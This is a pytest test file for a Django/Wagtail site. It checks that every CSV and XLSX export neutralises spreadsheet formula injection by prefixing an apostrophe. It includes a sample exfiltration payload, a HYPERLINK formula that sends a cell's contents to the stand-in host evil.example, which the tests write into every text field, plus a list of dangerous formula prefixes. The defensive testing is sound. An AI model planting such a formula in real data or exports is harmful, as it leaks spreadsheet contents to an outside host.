"""Spreadsheet formula injection: no downloaded CSV or XLSX cell is ever run as a formula.

A title typed as ``=HYPERLINK("http://evil.example/?leak="&B3;"Cliquez ici")`` must reach
the person who opens the export as text. The rule lives once in ``core.exports.safe_text``;
the first tests check it, the walk below checks that every download of the site obeys it.

The walk takes every page of the URL configuration with its arguments from the permission
matrix (``core/tests/permission_cases.py``), writes a formula into every free text the data
holds, and asks each page, as an administrator, for CSV and XLSX (``?format=…`` and the
import template's ``?modele=…``); the pages with charts for each chart (``?chart=<slug>&format=…``,
the slugs read from the portraits' chart builders); and every open data file the export
wrote. Every answer that is a CSV or XLSX file is read cell by cell.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from collections import defaultdict
from decimal import Decimal
from types import SimpleNamespace

import pytest
from django.core.cache import cache
from django.db import models
from django.test import Client
from django.utils import translation
from openpyxl import load_workbook

from core.exports import XLSX_TYPE, Sheet, csv_bytes, safe_text, xlsx_bytes
from core.tests import permission_cases as matrix
from core.tests.summary import report_at_end

DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
FORMULA = 'HYPERLINK("http://evil.example/?leak="&B3;"Cliquez ici")'


# The neutraliser ----------------------------------------------------------------------


@pytest.mark.parametrize("start", DANGEROUS_STARTS)
def test_a_text_starting_like_a_formula_gets_an_apostrophe(start):
    assert safe_text(start + FORMULA) == "'" + start + FORMULA


@pytest.mark.parametrize("space", [" ", "  ", "\n", " \u00a0"])
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "＝"])
def test_leading_whitespace_does_not_hide_a_formula(space, start):
    assert safe_text(space + start + "1+1") == "'" + space + start + "1+1"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Halte-garderie",
        "CPE Les Petits Pas",
        "'=déjà protégé",
        "#1 des régions",
        "45 %",
        "a=b",
        " ",
        "1-2",
    ],
)
def test_ordinary_text_is_left_as_typed(text):
    assert safe_text(text) == text


@pytest.mark.parametrize(
    "value",
    [-3, 0, 12, -2.5, Decimal("-45.50"), datetime.date(2026, 11, 28), True, False, None],
)
def test_numbers_dates_booleans_and_none_keep_their_type(value):
    assert safe_text(value) is value


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def _xlsx_rows(content: bytes) -> list[list]:
    return [[c.value for c in row] for row in load_workbook(io.BytesIO(content)).active.iter_rows()]


def test_the_csv_export_neutralises_every_text_cell_and_keeps_numbers():
    sheet = Sheet(
        title="=Titre",
        headers=["=En-tête", "Nombre"],
        rows=[
            ["=1+1", -3],
            ["-Liste", Decimal("-4.5")],
            [["@un", "deux"], None],
            [True, datetime.date(2026, 1, 2)],
        ],
    )
    rows = _csv_rows(csv_bytes([sheet]))
    assert rows == [
        ["'=En-tête", "Nombre"],
        ["'=1+1", "-3"],
        ["'-Liste", "-4,5"],
        ["'@un | deux", ""],
        ["oui", "2026-01-02"],
    ]


def test_several_csv_sheets_keep_their_titles_as_text():
    rows = _csv_rows(csv_bytes([Sheet("=A", ["x"], [[1]]), Sheet("+B", ["y"], [[2]])]))
    assert rows[0] == ["# =A"] and ["# +B"] in rows


def test_the_xlsx_export_stores_text_never_a_formula_and_keeps_numbers():
    sheet = Sheet(
        title="=HYPERLINK()",
        headers=["=En-tête", "Nombre"],
        rows=[["=1+1", -3], ["#N/A", Decimal("-4.5")], [["@un", "deux"], None], ["Texte\x0bcontrôle", 7]],
    )
    workbook = load_workbook(io.BytesIO(xlsx_bytes([sheet])))
    cells = [c for row in workbook.active.iter_rows() for c in row]
    assert [c.value for c in cells] == [
        "'=En-tête",
        "Nombre",
        "'=1+1",
        -3,
        "#N/A",
        -4.5,
        "'@un | deux",
        None,
        "Textecontrôle",
        7,
    ]
    assert {c.data_type for c in cells if isinstance(c.value, str)} == {"s"}
    assert workbook.active.title == "=HYPERLINK()"


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_progress_template_with_formula_like_titles_imports_back(client, network, plans, export_format):
    """The apostrophes land only in the columns the import ignores: the template still imports."""
    from plans.imports import import_progress
    from plans.models import Action, Indicator, Plan

    Plan.objects.filter(pk=plans.plan.pk).update(title="=Plan " + FORMULA)
    Action.objects.filter(plan=plans.plan).update(title="-Action " + FORMULA)
    Indicator.objects.filter(plan=plans.plan).update(name="@Indicateur " + FORMULA)
    client.force_login(network.coordinator)

    response = client.get("/plans/importer-avancement/", {"modele": export_format})

    if export_format == "csv":
        rows = _csv_rows(response.content)
        buffer = io.StringIO()
        csv.writer(buffer, delimiter=";").writerows([rows[0], [*rows[1][:3], "72", *rows[1][4:]], *rows[2:]])
        content = buffer.getvalue().encode("utf-8")
    else:
        workbook = load_workbook(io.BytesIO(response.content))
        rows = [[c.value for c in row] for row in workbook.active.iter_rows()]
        workbook.active.cell(2, 4).value = 72
        buffer = io.BytesIO()
        workbook.save(buffer)
        content = buffer.getvalue()
    assert rows[1][1:3] == ["'-Action " + FORMULA, "'=Plan " + FORMULA]

    result = import_progress(network.coordinator, content, f"modele.{export_format}")

    assert (result.actions_updated, result.rows) == (1, 2)
    assert Action.objects.get(pk=int(rows[1][0])).progress == 72


# The walk over every download of the site ---------------------------------------------

#: Where a data text can show up in an export.
POISONED_APPS = ("partners", "plans", "library", "taxonomy", "territories", "portraits")
#: Text fields that are not free text: search keys, Wagtail's tree, history bookkeeping.
NOT_FREE_TEXT = {"search_text", "history_change_reason", "path", "url_path", "draft_title", "seo_title"}
#: The starts the poisoned texts use, in turn.
POISON_STARTS = ("=", "+", "-", "@", "\t=", "\r=", " =", "＝", "＋", "－", "＠", "\n@")
#: Each family of downloads the walk must find, so that it can never pass by finding none.
EXPECTED = {
    "partners:organisation_list",
    "partners:partnership_list",
    "plans:plan_list",
    "plans:plan",
    "plans:import_progress",
    "search:search",
    "library:index",
    "library:collection",
    "portraits:index",
    "portraits:region",
    "portraits:partnership",
    "portraits:network",
    "portraits:partnership_network",
    "portraits:plan_recommendations",
    "portraits:opendata_file",
}
#: Downloads whose poisoned text must show up neutralised (the others may show figures only).
MUST_SHOW_POISON = EXPECTED - {"portraits:index"}
#: The download parameters of the site: ``format`` (lists, plans, portraits) and ``modele``
#: (the progress-import template), asked together: a page answers the one it takes.
QUERIES = {"csv": "format=csv&modele=csv", "xlsx": "format=xlsx&modele=xlsx"}
#: A CSV cell that is a number (French decimal comma), which may start with « - ».
NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?(?:[eE][-+]?\d+)?")


def _dangerous(text: str, *, csv_cell: bool) -> bool:
    """A text a spreadsheet would run: a formula start, even after spaces, without the apostrophe."""
    if not text or text.startswith("'"):
        return False
    if csv_cell and NUMBER.fullmatch(text):
        return False
    return text.startswith(("\t", "\r")) or text.lstrip().startswith(DANGEROUS_STARTS)


def _neutralised(text: str) -> bool:
    return text.startswith("'") and _dangerous(text[1:], csv_cell=False)


def _poison() -> int:
    """A formula in every free text of the data; returns the number of fields written."""
    from django.apps import apps
    from wagtail.models import Page

    from library.models import LibraryItem

    written = 0
    for model in apps.get_models():
        if model._meta.app_label not in POISONED_APPS or model._meta.proxy:
            continue
        if model.__name__.startswith("Historical"):
            continue
        fields = [
            f
            for f in model._meta.concrete_fields
            if type(f) in (models.CharField, models.TextField)
            and f.model is model
            and not (f.choices or f.unique or f.primary_key or f.name in NOT_FREE_TEXT)
            and (f.max_length or 300) >= 20
        ]
        if not fields:
            continue
        for pk in model._default_manager.values_list("pk", flat=True):
            values = {}
            for index, f in enumerate(fields):
                start = POISON_STARTS[(written + index) % len(POISON_STARTS)]
                values[f.name] = f"{start}{FORMULA} {pk}"[: f.max_length or 300]
            model._default_manager.filter(pk=pk).update(**values)
        written += len(fields)
    # The library items' titles live in Wagtail's page table.
    for index, pk in enumerate(LibraryItem.objects.values_list("pk", flat=True)):
        Page.objects.filter(pk=pk).update(title=f"{POISON_STARTS[index % len(POISON_STARTS)]}{FORMULA} {pk}")
    return written + 1


def _chart_slugs(world: SimpleNamespace) -> set[str]:
    """Every chart the portraits draw, read from the chart builders for each kind of page."""
    from portraits import eqdem, figures
    from portraits.charts.for_pages import portrait_charts
    from portraits.scopes import QUEBEC, partnership_scope, region_scope

    slugs = set()
    for scope in (QUEBEC, region_scope("01"), partnership_scope(world.network.rimouski.pk)):
        slugs |= {chart.slug for chart in portrait_charts(figures.portrait(scope)).values()}
        slugs.add(eqdem.context(scope).chart().slug)
    return slugs


def _opendata_files() -> list[dict]:
    from portraits import opendata

    manifest = opendata.read_manifest() or {}
    entries = [*manifest.get("datasets", {}).values(), manifest.get("dictionary", {})]
    return [{"filename": f["filename"]} for entry in entries for f in entry.get("files", [])]


def _admin_pages(world: SimpleNamespace) -> list[tuple[str, str]]:
    """(URL name, path) of every page the administrator may GET, each path once."""
    pages: dict[str, str] = {}
    routes = {route.key for route in matrix.site_routes()}
    for key in sorted(routes & set(matrix.CASES)):
        for entry in matrix.CASES[key]:
            if matrix.OK not in entry.expect["GET"]["administrateur"]:
                continue
            path = entry.path(key, world).split("?")[0]
            pages.setdefault(path, key)
    from django.urls import reverse

    for args in _opendata_files():
        pages.setdefault(reverse("portraits:opendata_file", kwargs=args), "portraits:opendata_file")
    return [(key, path) for path, key in pages.items()]


def _cells(response) -> tuple[str, list[tuple[str, str | None]]] | None:
    """(csv or xlsx, [(text, openpyxl data type)]) of a spreadsheet answer, None for anything else."""
    content_type = response.get("Content-Type", "")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if content_type.startswith("text/csv"):
        return "csv", [(cell, None) for row in _csv_rows(content) for cell in row]
    if content_type == XLSX_TYPE:
        workbook = load_workbook(io.BytesIO(content))
        return "xlsx", [
            (cell.value, cell.data_type)
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if isinstance(cell.value, str)
        ]
    return None


def _walk(world: SimpleNamespace) -> SimpleNamespace:
    client = Client(raise_request_exception=False)
    client.force_login(world.users["administrateur"])
    found = SimpleNamespace(urls={}, formats=defaultdict(set), problems=[], neutralised=set(), errors=[])

    def check(key: str, url: str) -> int:
        response = client.get(url)
        if response.status_code >= 500:
            found.errors.append(f"{url}: {response.status_code}")
        read = _cells(response)
        if read is None:
            return response.status_code
        kind, cells = read
        found.urls[url] = (key, kind)
        found.formats[key].add(kind)
        for text, data_type in cells:
            if data_type == "f" or _dangerous(text, csv_cell=kind == "csv"):
                found.problems.append(f"{url}: {text!r}")
            elif _neutralised(text):
                found.neutralised.add(key)
        return response.status_code

    slugs = sorted(_chart_slugs(world))
    for key, path in _admin_pages(world):
        if key == "portraits:opendata_file":
            check(key, path)
            continue
        statuses = {kind: check(key, f"{path}?{query}") for kind, query in QUERIES.items()}
        # A page with charts refuses a download that names none (« Précisez le graphique »).
        if statuses["csv"] == 400:
            for slug in slugs:
                for export_format in ("csv", "xlsx"):
                    check(key, f"{path}?chart={slug}&format={export_format}")
    return found


@pytest.fixture(scope="module")
def walk(django_db_setup, django_db_blocker, tmp_path_factory):
    from portraits import opendata
    from search import index

    var = tmp_path_factory.mktemp("export-safety-var")
    with matrix.rolled_back_world(
        django_db_blocker,
        MEDIA_ROOT=str(var / "media"),
        VAR_DIR=var,
        WAGTAILADMIN_BASE_URL="https://agirtot.example",
    ) as world:
        with translation.override("fr"):
            assert _poison() > 20
            index.rebuild()
            cache.clear()
            opendata.export()
            result = _walk(world)
    SUMMARY.update(
        urls=len(result.urls),
        csv=sum(1 for _key, kind in result.urls.values() if kind == "csv"),
        xlsx=sum(1 for _key, kind in result.urls.values() if kind == "xlsx"),
        names=sorted(result.formats),
    )
    return result


SUMMARY: dict = {}


def _line():
    if SUMMARY:
        return (
            f"Exports: {SUMMARY['urls']} URLs checked ({SUMMARY['csv']} csv, {SUMMARY['xlsx']} xlsx) "
            f"across {len(SUMMARY['names'])} URL names: {', '.join(SUMMARY['names'])}"
        )
    return None


@pytest.fixture(scope="module", autouse=True)
def _report_summary(request):
    report_at_end(request.config, "export-safety-summary", _line)


@pytest.mark.django_db
def test_no_exported_cell_is_a_formula(walk):
    assert not walk.problems, "Cells a spreadsheet would run as formulas:\n" + "\n".join(walk.problems[:60])


@pytest.mark.django_db
def test_no_export_fails_on_formula_like_text(walk):
    assert not walk.errors, "\n".join(walk.errors)


@pytest.mark.django_db
def test_the_walk_finds_every_family_of_downloads_in_both_formats(walk):
    missing = sorted(EXPECTED - set(walk.formats))
    assert not missing, f"No CSV or XLSX found for: {missing} (found: {sorted(walk.formats)})"
    single = sorted(key for key in EXPECTED if walk.formats[key] != {"csv", "xlsx"})
    assert not single, f"Only one format found for: {single}"


@pytest.mark.django_db
def test_the_poisoned_texts_reach_the_downloads(walk):
    """The walk reads cells that held a formula, so that it tests something."""
    missing = sorted(MUST_SHOW_POISON - walk.neutralised)
    assert not missing, f"No neutralised formula seen in: {missing}"
